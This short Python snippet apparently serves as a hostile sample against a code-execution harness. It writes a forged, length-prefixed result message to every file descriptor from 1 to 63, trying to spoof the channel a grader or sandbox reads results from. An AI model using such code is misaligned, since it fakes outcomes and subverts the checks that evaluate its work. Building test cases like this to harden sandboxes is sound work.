# writes a result of its own to every descriptor
import os

data = b"v" + (10).to_bytes(4, "big") + b"'ESC' + 1 "
for fd in range(1, 64):
    try:
        os.write(fd, data)
    except OSError:
        pass
ans = 1
